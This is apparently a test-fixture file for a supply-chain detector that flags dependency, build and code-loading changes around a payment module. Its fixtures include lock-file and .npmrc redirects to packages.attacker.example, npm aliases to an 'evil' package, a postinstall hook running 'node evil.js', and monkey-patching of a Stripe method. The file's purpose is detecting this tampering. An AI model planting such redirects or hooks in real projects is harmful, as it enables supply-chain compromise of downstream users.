import { archiveOf, entryOf, lockWith, packageWith } from '../../supply/npm-service';
import { inDesk, inTake, SERVICE, TAKE, type ThreatCase, type ThreatCases } from './threat-case';

/** Regulated code uses `stripe`, which needs `qs`. */
const SHOP = {
  ...SERVICE,
  'src/take.ts':
    "import Stripe from 'stripe';\nexport const take = (amount: any) => new Stripe().charge(amount);\n",
  'package.json': packageWith({}),
  'package-lock.json': lockWith({}),
  Dockerfile: '# the base\nFROM node:22\nRUN npm ci\n',
  Makefile: 'build:\n\tnpm ci\n',
};
const USED = 'pay > take';
const inShop = (after: ThreatCase['after'], found: readonly string[]): ThreatCase => ({
  before: SHOP,
  after,
  found,
});
const locked = (over: object) => ({
  'package-lock.json': lockWith({
    'node_modules/stripe': { ...entryOf('stripe', '1.0.0', { dependencies: { qs: '^6.0.0' } }), ...over },
  }),
});
const manifest = (over: object) => ({ 'package.json': packageWith(over) });

const MAPPED = { '#stripe': 'stripe' };
const MAPS = {
  ...SHOP,
  'src/take.ts':
    "import Stripe from '#stripe';\nexport const take = (amount: any) => new Stripe().charge(amount);\n",
  'package.json': packageWith({ imports: MAPPED }),
};
const ALIASED = {
  ...SERVICE,
  'src/take.ts': "import { fee } from '@app/fee';\nexport const take = (amount: any) => fee(amount);\n",
  'lib/fee.ts': 'export const fee = (amount: any) => amount;\n',
  'evil/fee.ts': 'export const fee = (amount: any) => -amount;\n',
  'tsconfig.json': '{ "compilerOptions": { "paths": { "@app/*": ["./lib/*"] } } }\n',
};
const EXPORTED = {
  ...SERVICE,
  'src/take.ts': "import { fee } from 'fees';\nexport const take = (amount: any) => fee(amount);\n",
  'package.json': '{ "workspaces": ["packages/*"] }\n',
  'packages/fees/package.json': '{ "name": "fees", "exports": "./real.js" }\n',
  'packages/fees/real.js': 'exports.fee = () => 1;\n',
  'packages/fees/evil.js': 'exports.fee = () => 2;\n',
};
const TAKE_2 = 'high regulated-dependency src/take.ts:2 pay > take';

/** What a name leads to, changed from outside the code. */
export const REDIRECTS: ThreatCases = {
  'N15 an alias of a package': inShop(manifest({ dependencies: { stripe: 'npm:evil@^1.0.0' } }), [
    `high dependency-changed package.json:4 ${USED}`,
  ]),
  'N15 an alias of a package in the lock file': inShop(
    locked({ name: 'evil', version: '1.0.1', resolved: archiveOf('evil', '1.0.1') }),
    [`high dependency-changed package-lock.json:8 ${USED}`],
  ),
  'N15 an import map that leads to another package': {
    before: MAPS,
    after: manifest({ imports: { '#stripe': 'tap' } }),
    found: [TAKE_2],
  },
  'N15 an export map that leads to another file': {
    before: EXPORTED,
    after: { 'packages/fees/package.json': '{ "name": "fees", "exports": "./evil.js" }\n' },
    found: [TAKE_2],
  },
  'N15 paths that lead to another file': {
    before: ALIASED,
    after: { 'tsconfig.json': '{ "compilerOptions": { "paths": { "@app/*": ["./evil/*"] } } }\n' },
    found: [TAKE_2],
  },
  'N15 paths that lead out of the tree': {
    before: ALIASED,
    after: { 'tsconfig.json': '{ "compilerOptions": { "paths": { "@app/*": ["../evil/*"] } } }\n' },
    found: [TAKE_2],
  },
  'N15 a package that stands where a workspace did': {
    before: EXPORTED,
    after: { 'package.json': '{ "workspaces": [] }\n' },
    found: [TAKE_2],
  },
  'N15 an import map of something else is no such thing': {
    before: MAPS,
    after: manifest({ imports: { ...MAPPED, '#other': 'tap' } }),
    found: [],
  },
  'N16 a digest alone': inShop(locked({ integrity: 'sha512-evil' }), [
    `high dependency-changed package-lock.json:8 ${USED}`,
  ]),
  'N16 an address alone': inShop(locked({ resolved: 'https://packages.attacker.example/stripe-1.0.0.tgz' }), [
    `high dependency-changed package-lock.json:8 ${USED}`,
  ]),
  'N16 a digest of what a package needs': inShop(
    {
      'package-lock.json': lockWith({
        'node_modules/qs': { ...entryOf('qs', '6.0.0'), integrity: 'sha512-evil' },
      }),
    },
    [`high dependency-changed package-lock.json:16 ${USED}`],
  ),
  'N16 a digest of what only a tool needs is no such thing': inShop(
    {
      'package-lock.json': lockWith({
        'node_modules/tap': entryOf('tap', '2.0.0', { integrity: 'sha512-evil' }),
      }),
    },
    [],
  ),
  'N17 a script that runs on installation': inShop(
    manifest({ scripts: { build: 'tsc', test: 'tap', postinstall: 'node evil.js' } }),
    ['medium build-changed package.json:12'],
  ),
  'N17 a patch': inShop({ 'patches/stripe+1.0.0.patch': '--- a\n+++ b\n' }, [
    `high dependency-changed patches/stripe+1.0.0.patch:1 ${USED}`,
  ]),
  'N17 .npmrc': inShop({ '.npmrc': 'registry=https://packages.attacker.example\n' }, [
    'medium build-changed .npmrc:1',
  ]),
  'N17 a plugin of Yarn': inShop(
    { '.yarnrc.yml': 'plugins:\n  - ./evil.cjs\n', 'evil.cjs': 'module.exports = {};\n' },
    ['medium build-changed .yarnrc.yml:1'],
  ),
  'N17 an override': inShop(manifest({ overrides: { qs: '5.0.0' } }), [
    `high dependency-changed package.json:14 ${USED}`,
  ]),
  'N17 a resolution of Yarn': inShop(manifest({ resolutions: { 'stripe/qs': '5.0.0' } }), [
    `high dependency-changed package.json:14 ${USED}`,
  ]),
  'N17 a hook of pnpm': inShop({ '.pnpmfile.cjs': 'module.exports = {};\n' }, [
    'medium build-changed .pnpmfile.cjs:1',
  ]),
  'N17 a script that developers run is no such thing': inShop(
    manifest({ scripts: { build: 'tsc', test: 'tap', lint: 'biome check' } }),
    [],
  ),
  'N18 code beside its declarations': {
    before: {
      ...SERVICE,
      'src/take.ts': "import { fee } from './fee';\nexport const take = (amount: any) => fee(amount);\n",
      'src/fee.js': 'export const fee = (amount) => amount;\n',
      'src/fee.d.ts': 'export declare const fee: (amount: number) => number;\n',
    },
    after: { 'src/fee.js': 'export const fee = (amount) => -amount;\n' },
    found: ['high regulated-dependency src/fee.js:1 pay > take > fee'],
  },
  'N18 code that comes to stand beside declarations': {
    before: {
      ...SERVICE,
      'src/take.ts': "import { fee } from './fee';\nexport const take = (amount: any) => fee(amount);\n",
      'src/fee.d.ts': 'export declare const fee: (amount: number) => number;\n',
    },
    after: { 'src/fee.js': 'export const fee = (amount) => -amount;\n' },
    found: ['high regulated-dependency src/fee.js:1 pay > take > fee', TAKE_2],
  },
  'N18 declarations that come to stand before code hide nothing': {
    before: {
      ...SERVICE,
      'src/take.js': "const { fee } = require('./fee');\nexports.take = (amount) => fee(amount);\n",
      'src/take.ts': "export { take } from './take.js';\n",
      'src/fee.cjs': 'exports.fee = (amount) => amount;\n',
    },
    after: {
      'src/fee.d.ts': 'export declare const fee: (amount: number) => number;\n',
      'src/fee.cjs': 'exports.fee = (amount) => -amount;\n',
    },
    found: ['high regulated-dependency src/fee.cjs:1 pay > take > fee'],
  },
  'N18 declarations alone are no code': {
    before: {
      ...SERVICE,
      'src/fee.js': 'export const fee = 1;\n',
      'src/fee.d.ts': 'export declare const fee: number;\n',
    },
    after: { 'src/fee.d.ts': 'export declare const fee: string;\n' },
    found: [],
  },
  'N19 a method of a package that is written over': inShop(
    {
      'src/desk.ts':
        "import Stripe from 'stripe';\nStripe.prototype.charge = () => 1;\nexport const desk = (text: any) => text;\n",
    },
    ['high dynamic-code src/desk.ts:2'],
  ),
  'N19 a member of a package that is written over': inShop(
    {
      'src/desk.ts':
        "import * as stripe from 'stripe';\nstripe.charge = () => 1;\nexport const desk = (text: any) => text;\n",
    },
    ['high dynamic-code src/desk.ts:2'],
  ),
  'N19 a method of the tree that is written over elsewhere': inDesk(
    "import { Gate } from './gate';\nGate.prototype.charge = () => 1;\nexport const desk = (text: any) => text;\n",
    ['high dynamic-code src/desk.ts:2', 'high regulated-call src/desk.ts:2 desk.ts > Gate.charge'],
  ),
  'N19 a method of a package that regulated code does not use': inDesk(
    "import Other from 'other';\nOther.prototype.look = () => 1;\nexport const desk = (text: any) => text;\n",
    ['medium dynamic-code src/desk.ts:2'],
  ),
  'N19 a field of what is imported that holds no function is no such thing': inDesk(
    "import { app } from 'app';\napp.title = 'desk';\nexport const desk = (text: any) => text;\n",
  ),
  'N19 an own export, a listener and the environment are none': inDesk(
    "exports.look = () => 1;\nmodule.exports.run = () => 2;\nwindow.onload = () => 3;\nprocess.env['RATE'] = '1';\nexports.desk = () => 4;\n",
  ),
  'N19 Object.assign to the prototype of an import': inDesk(
    "import { Gate } from './gate';\nObject.assign(Gate.prototype, { charge: () => 1 });\nexport const desk = (text: any) => text;\n",
    ['high dynamic-code src/desk.ts:2'],
  ),
  'N19 Object.defineProperty of an import': inDesk(
    "import { Gate } from './gate';\nObject.defineProperty(Gate.prototype, 'charge', { value: () => 1 });\nexport const desk = (text: any) => text;\n",
    ['high dynamic-code src/desk.ts:2'],
  ),
  'N19 a global that is written over': inDesk(
    'globalThis.fetch = async () => new Response();\nexport const desk = (text: any) => text;\n',
    ['medium dynamic-code src/desk.ts:1'],
  ),
  'N19 a method of a built-in type that is written over': inDesk(
    'Array.prototype.map = () => [];\nexport const desk = (text: any) => text;\n',
    ['medium dynamic-code src/desk.ts:1'],
  ),
  'N19 a mock outside tests': inDesk("jest.mock('./gate');\nexport const desk = (text: any) => text;\n", [
    'medium dynamic-code src/desk.ts:1',
  ]),
  'N19 a prototype of the file itself is no such thing': inDesk(
    'function Desk() {}\nDesk.prototype.look = () => 1;\nexport const desk = () => new Desk();\n',
  ),
  'N19 a field of what is imported, in a function that regulated code reaches, is a change like others':
    inTake("import { Gate } from './gate';\nexport const take = (gate: Gate) => gate.look();\n", [
      TAKE.replace(':1', ':2'),
    ]),
};

/** What is built otherwise. */
export const BUILDS: ThreatCases = {
  'N31 a container file': inShop({ Dockerfile: 'FROM evil:22\nRUN npm ci\n' }, [
    'medium build-changed Dockerfile:1',
  ]),
  'N31 a makefile': inShop({ Makefile: 'build:\n\tnpm ci && node evil.js\n' }, [
    'medium build-changed Makefile:2',
  ]),
  'N31 another workflow': inShop({ '.github/workflows/release.yml': 'on: push\n' }, [
    'medium build-changed .github/workflows/release.yml:1',
  ]),
  'N31 a configuration of a bundler': inShop({ 'vite.config.ts': 'export default { plugins: [] };\n' }, [
    'medium build-changed vite.config.ts:1',
  ]),
  'N31 a composition of containers': inShop({ 'docker-compose.yml': 'services: {}\n' }, [
    'medium build-changed docker-compose.yml:1',
  ]),
  'N31 a comment in a container file is no such thing': inShop(
    { Dockerfile: '# the base of all\nFROM node:22\nRUN npm ci\n' },
    [],
  ),
};

const CHILD = "import { execFile } from 'node:child_process';\n";

/** What stands or runs elsewhere. */
export const OPAQUE: ThreatCases = {
  'N30 a dependency by path': inShop(manifest({ dependencies: { stripe: 'file:vendor/stripe' } }), [
    'low opaque-content package.json:4',
    `high dependency-changed package.json:4 ${USED}`,
  ]),
  'N30 a script that regulated code runs in another process': inTake(
    `${CHILD}export const take = (amount: any) => execFile('node', ['charge.js', amount]);\n`,
    ['high opaque-content src/take.ts:2 pay > take', TAKE_2],
  ),
  'N30 a script that a wrapped function of the same kind runs': inTake(
    "import { promisify } from 'util';\nimport * as child from 'child_process';\nconst run = promisify(child.exec);\nexport const take = (amount: any) => run('node charge.js');\n",
    [
      'high opaque-content src/take.ts:4 pay > take',
      'high regulated-dependency src/take.ts:3 pay > take > run',
      'high regulated-dependency src/take.ts:4 pay > take',
    ],
  ),
  'N30 a script in CommonJS': {
    before: {
      ...SERVICE,
      'src/pay.js': "const { take } = require('./taking');\nexports.pay = () => take();\n",
      'src/taking.js': 'exports.take = () => 1;\n',
    },
    after: {
      'src/taking.js':
        "const { fork } = require('child_process');\nexports.take = () => fork('./charge.js');\n",
    },
    found: [
      'high opaque-content src/taking.js:2 pay > take',
      'high regulated-dependency src/taking.js:2 pay > take',
    ],
  },
  'N30 a thread with code of its own': inTake(
    "import { Worker } from 'node:worker_threads';\nexport const take = () => new Worker('./charge.js');\n",
    ['high opaque-content src/take.ts:2 pay > take', TAKE_2],
  ),
  'N30 a process elsewhere is told at low': inDesk(
    `${CHILD}export const desk = (text: any) => execFile('git', ['status']);\n`,
    ['low opaque-content src/desk.ts:2'],
  ),
  'N30 the same process with another script': {
    before: { ...SERVICE, 'src/take.ts': `${CHILD}export const take = () => execFile('a.sh');\n` },
    after: { 'src/take.ts': `${CHILD}export const take = () => execFile('b.sh');\n` },
    found: ['high opaque-content src/take.ts:2 pay > take', TAKE_2],
  },
  'N30 a regular expression that is run is no process': inDesk(
    'export const desk = (text: any) => /a/.exec(text);\n',
  ),
};
